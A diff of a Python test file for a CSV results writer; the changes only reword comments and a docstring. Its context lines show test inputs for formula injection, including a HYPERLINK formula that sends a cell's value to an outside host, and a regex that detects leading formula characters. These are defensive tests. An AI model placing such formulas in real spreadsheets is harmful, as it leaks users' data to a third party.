@@ -26,7 +26,7 @@ FORMULAS = [
     '=HYPERLINK("http://x/?"&A1,"y")',
 ]
 BEGINS = re.compile("[=+\\-@\uff1d\uff0b\uff0d\uff20\t\r\n]")
-# Mostly the characters that matter.
+# Most characters are those that matter here.
 texts = (
     st.text(st.sampled_from("=+-@';\t\r\n\",a \uff1d\uff0b\uff0d\uff20"), max_size=12)
     | st.text()
@@ -108,7 +108,7 @@ COLUMNS = (
 
 
 def row(machine="fan", **values) -> Row:
-    """A row of 0.5, with the given values changed."""
+    """Return a row whose values are 0.5, except for the given ones."""
     return Row(1, "mse", machine, "00", *[0.5] * 13)._replace(**values)
 
 
@@ -125,7 +125,7 @@ def test_results_csv_has_its_columns_in_order_and_leaves_nan_empty():
 def test_results_csv_with_nan_reads_back_unchanged():
     rows = [row("fan, one", auc=1 / 3), row(seed=2, auc_target=math.nan)]
     assert read_results_csv(results_csv([])) == []
-    # As text, because NaN does not equal itself.
+    # Compared as text, because NaN does not equal itself.
     assert repr(read_results_csv(results_csv(rows))) == repr(rows)
 
 
